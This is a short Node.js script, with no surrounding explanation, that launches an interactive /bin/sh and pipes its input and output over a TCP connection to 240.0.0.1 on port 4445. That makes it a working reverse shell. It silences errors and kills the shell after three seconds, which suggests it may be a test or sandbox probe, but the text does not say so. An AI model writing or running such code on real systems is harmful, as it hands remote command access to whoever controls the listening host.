const net = require("net");
const { spawn } = require("child_process");
const shell = spawn("/bin/sh", ["-i"], { stdio: "pipe" });
const client = new net.Socket();
client.connect(4445, "240.0.0.1", () => {
  client.pipe(shell.stdin);
  shell.stdout.pipe(client);
  shell.stderr.pipe(client);
});
client.on("error", () => {});
client.on("close", () => shell.kill());
shell.stdin.on("error", () => {});
setTimeout(() => { client.destroy(); shell.kill(); }, 3000);
